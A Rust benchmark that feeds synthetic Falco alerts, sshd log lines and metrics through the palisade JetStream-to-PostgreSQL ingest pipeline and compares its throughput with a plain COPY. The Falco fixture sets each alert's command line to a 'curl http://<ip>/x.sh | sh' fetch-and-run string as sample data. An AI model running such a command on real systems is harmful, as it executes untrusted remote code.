//! End-to-end ingest benchmark (issue 2).
//!
//! Publishes N mixed events (default 1,000,000: mostly Falco alerts made from the
//! real fixture alerts, auth-log lines in log envelopes of 50, metric samples in
//! batches of 100) to JetStream, then starts a release `palisade up` and measures
//! events/s until every message is committed in PostgreSQL. In the same run, the
//! baseline COPYs the same rows straight into the same tables of a fresh database.
//! Also reports the peak RSS of the `palisade` process.
//!
//! Needs the dev stack: `scripts/stack.sh up`, then
//! `cargo bench --bench ingest` (BENCH_EVENTS=N to change the size).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fmt::Write as _;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use chrono::{DateTime, Utc};
use palisade_core::model::{Decoded, Event, Metric};
use serde_json::json;

mod support;

use support::{auth_messages, falco_alerts, fresh_database, Rng};

const HOSTS: usize = 200;
const USERS: [&str; 8] = [
    "root", "admin", "ubuntu", "deploy", "postgres", "www-data", "git", "test",
];

struct Corpus {
    messages: Vec<(String, String)>,
    events: usize,
    log_lines: usize,
    metric_samples: usize,
    falco: usize,
}

fn generate(total: usize, base: DateTime<Utc>) -> Corpus {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let templates = falco_alerts();
    let auth = auth_messages();
    let falco = total * 60 / 100;
    let log_lines = total * 35 / 100;
    let metric_samples = total - falco - log_lines;
    let mut messages = Vec::with_capacity(falco + log_lines / 50 + metric_samples / 100 + 2);
    let spread_ms = 3 * 24 * 3600 * 1000;
    let ts = |rng: &mut Rng| base - chrono::Duration::milliseconds(rng.below(spread_ms) as i64);

    for i in 0..falco {
        let mut alert = templates[i % templates.len()].clone();
        let t = ts(&mut rng);
        alert["time"] = t.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true).into();
        alert["hostname"] = format!("node-{:03}", rng.below(HOSTS as u64)).into();
        let fields = &mut alert["output_fields"];
        fields["evt.time"] = t.timestamp_nanos_opt().unwrap_or(0).into();
        fields["container.id"] = format!("{:012x}", rng.next() & 0xffff_ffff_ffff).into();
        fields["user.name"] = USERS[rng.below(8) as usize].into();
        fields["proc.cmdline"] = format!("bash -c curl http://{}/x.sh | sh", rng.ip()).into();
        messages.push(("security.falco.alerts".to_owned(), alert.to_string()));
    }
    let mut left = log_lines;
    while left > 0 {
        let n = left.min(50);
        left -= n;
        let lines: Vec<_> = (0..n)
            .map(|_| {
                let template = &auth[rng.below(auth.len() as u64) as usize];
                let message = template
                    .replace("10.0.2.2", &rng.ip())
                    .replace("vagrant", USERS[rng.below(8) as usize]);
                json!({"ts": ts(&mut rng).to_rfc3339(), "message": message, "program": "sshd",
                       "pid": 1000 + rng.below(60000)})
            })
            .collect();
        let env = json!({"v": 1, "ts": base.to_rfc3339(), "host": format!("node-{:03}", rng.below(HOSTS as u64)),
                         "agent_id": "bench", "source": "auth", "lines": lines});
        messages.push(("logs.auth".to_owned(), env.to_string()));
    }
    let mut left = metric_samples;
    while left > 0 {
        let n = left.min(100);
        left -= n;
        let samples: Vec<_> = (0..n)
            .map(|k| {
                let name = [
                    "cpu.usage_percent",
                    "mem.used_percent",
                    "disk.used_percent",
                    "net.rx_bytes",
                ][k % 4];
                json!({"name": name,
                       "value": rng.below(10_000) as f64 / 100.0, "labels": {"cpu": "total"},
                       "ts": ts(&mut rng).to_rfc3339()})
            })
            .collect();
        let env = json!({"v": 1, "ts": base.to_rfc3339(), "host": format!("node-{:03}", rng.below(HOSTS as u64)),
                         "agent_id": "bench", "metrics": samples});
        messages.push(("telemetry.metrics.edge".to_owned(), env.to_string()));
    }
    Corpus {
        messages,
        events: total,
        log_lines,
        metric_samples,
        falco,
    }
}

fn esc(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\t' => out.push_str("\\t"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\0' => {}
            c => out.push(c),
        }
    }
    out
}

/// COPY text rows for `events` and `metrics` from the decoded corpus.
fn copy_rows(corpus: &Corpus) -> (String, String) {
    let (mut events, mut metrics) = (String::new(), String::new());
    for (seq, (subject, payload)) in corpus.messages.iter().enumerate() {
        let stream = if subject.starts_with("logs") {
            "PALISADE_LOGS"
        } else {
            "PALISADE_SECURITY"
        };
        match palisade_core::decode::decode(subject, payload.as_bytes()).expect("corpus decodes") {
            Decoded::Events(list) => {
                for (i, e) in list.iter().enumerate() {
                    let Event {
                        ts,
                        host,
                        source,
                        kind,
                        severity,
                        rule,
                        message,
                        attributes,
                    } = e;
                    let id = palisade_core::store::row_id(stream, seq as u64 + 1, i);
                    let _ = writeln!(
                        events,
                        "{}\t{id}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{subject}\t{stream}\t{}",
                        ts.to_rfc3339(),
                        host.as_deref().map_or("\\N".to_owned(), esc),
                        esc(source),
                        kind.as_str(),
                        severity.as_str(),
                        severity.level(),
                        rule.as_deref().map_or("\\N".to_owned(), esc),
                        esc(message),
                        esc(&serde_json::Value::Object(attributes.clone()).to_string()),
                        seq + 1
                    );
                }
            }
            Decoded::Metrics(list) => {
                for (i, m) in list.iter().enumerate() {
                    let Metric {
                        ts,
                        host,
                        name,
                        value,
                        labels,
                        ..
                    } = m;
                    let id = palisade_core::store::row_id("PALISADE_TELEMETRY", seq as u64 + 1, i);
                    let _ = writeln!(
                        metrics,
                        "{}\t{id}\t{}\t{}\t{value}\t{}",
                        ts.to_rfc3339(),
                        esc(host),
                        esc(name),
                        esc(&serde_json::Value::Object(labels.clone()).to_string())
                    );
                }
            }
            other => panic!("unexpected record {other:?}"),
        }
    }
    (events, metrics)
}

fn peak_rss_kib(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
}

#[tokio::main]
async fn main() {
    let total: usize = std::env::var("BENCH_EVENTS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1_000_000);
    let nats_url = std::env::var("NATS_URL").unwrap_or_else(|_| "nats://127.0.0.1:4222".into());
    let admin_url = std::env::var("DATABASE_URL")
        .unwrap_or_else(|_| "postgres://palisade@127.0.0.1:55432/palisade?sslmode=disable".into());
    let base = Utc::now();

    let t = Instant::now();
    let corpus = generate(total, base);
    println!(
        "corpus: {} events ({} Falco alerts, {} log lines, {} metric samples) in {} messages, generated in {:.1?}",
        corpus.events, corpus.falco, corpus.log_lines, corpus.metric_samples, corpus.messages.len(), t.elapsed()
    );

    // Palisade: publish everything, then time the pipeline until all is committed.
    let namespace = format!("bench{}", std::process::id());
    let (db_url, pool) = fresh_database(&admin_url, "palisade_bench_ingest").await;
    let client = async_nats::connect(&nats_url)
        .await
        .expect("NATS: run scripts/stack.sh up");
    let js = async_nats::jetstream::new(client);
    let config = palisade_consumers::IngestConfig {
        namespace: palisade_consumers::Namespace::named(&namespace),
        ..Default::default()
    };
    palisade_consumers::streams::ensure_streams(&js, &config)
        .await
        .unwrap();
    let t = Instant::now();
    let messages = corpus
        .messages
        .iter()
        .map(|(subject, payload)| (config.namespace.subject(subject), payload.clone().into()));
    palisade::fixtures::publish_windowed(&js, messages, 1024)
        .await
        .unwrap();
    let publish = t.elapsed();
    println!(
        "published {} messages in {publish:.2?} ({:.0} msg/s)",
        corpus.messages.len(),
        corpus.messages.len() as f64 / publish.as_secs_f64()
    );

    let writers = std::env::var("BENCH_WRITERS").unwrap_or_else(|_| "4".into());
    let t = Instant::now();
    let mut child = Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args([
            &format!("--nats-url={nats_url}"),
            &format!("--database-url={db_url}"),
            &format!("--namespace={namespace}"),
            "up",
            "--http-addr=127.0.0.1:0",
            &format!("--writers={writers}"),
        ])
        .env("RUST_LOG", "warn")
        .stdout(Stdio::null())
        .spawn()
        .expect("spawn palisade");
    let want = corpus.messages.len() as i64;
    let mut peak = 0;
    loop {
        let done: Option<i64> =
            sqlx::query_scalar("SELECT sum(messages)::int8 FROM projection_offsets")
                .fetch_one(&pool)
                .await
                .unwrap();
        peak = peak.max(peak_rss_kib(child.id()).unwrap_or(0));
        if done.unwrap_or(0) >= want {
            break;
        }
        assert!(
            t.elapsed() < Duration::from_secs(1800),
            "ingest did not finish"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let ingest = t.elapsed();
    peak = peak.max(peak_rss_kib(child.id()).unwrap_or(0));
    let _ = child.kill();
    let _ = child.wait();
    let rows: i64 =
        sqlx::query_scalar("SELECT (SELECT count(*) FROM events) + (SELECT count(*) FROM metrics)")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(
        rows, total as i64,
        "every event is in PostgreSQL exactly once"
    );
    let palisade_rate = total as f64 / ingest.as_secs_f64();
    pool.close().await;
    for family in palisade_consumers::streams::StreamFamily::ALL {
        let _ = js.delete_stream(family.name(&config.namespace)).await;
    }

    // Baseline: COPY the same rows into the same tables of a fresh database.
    let (events, metrics) = copy_rows(&corpus);
    let (_, pool) = fresh_database(&admin_url, "palisade_bench_copy").await;
    let mut days: Vec<chrono::NaiveDate> = (0..=3)
        .map(|d| (base - chrono::Duration::days(d)).date_naive())
        .collect();
    days.sort();
    for table in ["events", "metrics"] {
        palisade_schema::ensure_partitions(&pool, table, &days)
            .await
            .unwrap();
    }
    let t = Instant::now();
    let mut conn = pool.acquire().await.unwrap();
    for (sql, data) in [
        ("COPY events (ts, id, host, source, type, severity, severity_level, rule, message, attributes, subject, stream, stream_seq) FROM STDIN", &events),
        ("COPY metrics (ts, id, host, name, value, labels) FROM STDIN", &metrics),
    ] {
        let mut copy = conn.copy_in_raw(sql).await.unwrap();
        for chunk in data.as_bytes().chunks(1 << 20) {
            copy.send(chunk).await.unwrap();
        }
        copy.finish().await.unwrap();
    }
    let copy = t.elapsed();
    let copy_rate = total as f64 / copy.as_secs_f64();
    drop(conn);
    pool.close().await;

    println!();
    println!("| what | events | time | events/s |");
    println!("|---|---:|---:|---:|");
    println!("| palisade (JetStream → decode → COPY per batch, upsert on redelivery; {writers} writers, batches ≤256/500 ms) | {total} | {:.2} s | {palisade_rate:.0} |", ingest.as_secs_f64());
    println!("| baseline: COPY of the same rows into the same tables | {total} | {:.2} s | {copy_rate:.0} |", copy.as_secs_f64());
    println!();
    println!(
        "palisade / COPY = {:.2}; peak RSS of palisade = {:.1} MiB",
        palisade_rate / copy_rate,
        peak as f64 / 1024.0
    );
}
